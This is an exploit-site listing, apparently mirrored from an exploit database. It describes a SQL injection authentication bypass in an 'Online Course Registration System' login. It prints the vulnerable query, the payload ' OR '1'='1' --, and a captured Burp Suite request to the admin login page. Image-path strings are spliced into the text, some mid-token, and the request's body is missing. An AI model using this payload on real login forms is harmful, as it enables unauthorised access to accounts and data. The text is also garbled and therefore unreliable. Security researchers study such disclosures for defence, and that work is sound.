Online Course Registration System - SQL Injection in User Authentication

CVE Category Price Severity
CVE-2021-3591 CWE-89 $500 Critical
Author Risk Exploitation Type Date
Unknown High Remote 2024-02-10

CVSS vector description

Our sensors found this exploit at:

Below is a copy:

Online Course Registration System - SQL Injection in User Authentication
# Exploit Title: [Online Course Registration System - SQL Injection in User Authentication]
# Date: 02/09/2024
# Exploit Author: h4xforensics-diyar# Vendor Homepage:
# Software Link:
# Version: 1.0
# Tested on: Windows 11 + XAMPP 8.0.30

# Description #

The code exhibits a SQL injection vulnerability due to the insecure handling of user input. The vulnerability is present in the following line:

$query = "SELECT * FROM users WHERE username = '$username' AND password = '$password'";
Where It's Vulnerable:

The vulnerability lies in the direct concatenation of user-supplied values ($username and $password) into the SQL query string. This practice allows an attacker to manipulate the input and potentially execute unauthorized SQL queries, posing a risk of unauthorized access or data manipulation.

## Proof Of Concept ##

$query = "SELECT * FROM users WHERE username = '$username' AND password = '$password'";
An attacker could exploit the SQL injection vulnerability by manipulating the username field. They could input something like below:' OR '1'='1' --

This input would make the query look like:

SELECT * FROM users WHERE username = '' OR '1'='1' --' AND password = 'hashed_password';


The single quote (') closes the original string.
OR '1'='1' is a condition that always evaluates to true, allowing the attacker to bypass the login.
-- is used to comment out the remaining part of the original query this input would allow an attacker to log in without a valid username and password.

Burp Suite Request :

POST /admin/index.php HTTP/1.1
Host: localhost
Cookie: PHPSESSID=h08ab7d2umqg507c1392g0opmp
Content-Length: 46
Cache-Control: max-age=0
Sec-Ch-Ua: "Chromium";v="121", "NotA(Brand";v="99"
Sec-Ch-Ua-Mobile: ?0
Sec-Ch-Ua-Platform: "Windows"
Upgrade-Insecure-Requests: 1
Origin: https://localhost
Content-Type: application/x-www-form-urlencoded
User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.6167.85 Safari/537.36
Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7
Sec-Fetch-Site: same-origin
Sec-Fetch-Mode: navigateSec-Fetch-User: ?1
Sec-Fetch-Dest: document
Referer: https://localhost/admin/index.php
Accept-Encoding: gzip, deflate, br
Accept-Language: en-US,en;q=0.9
Priority:u=0, i
Connection: close

Copyright ©2024 Exploitalert.

All trademarks used are properties of their respective owners. By visiting thiswebsite you agree to Terms of Use.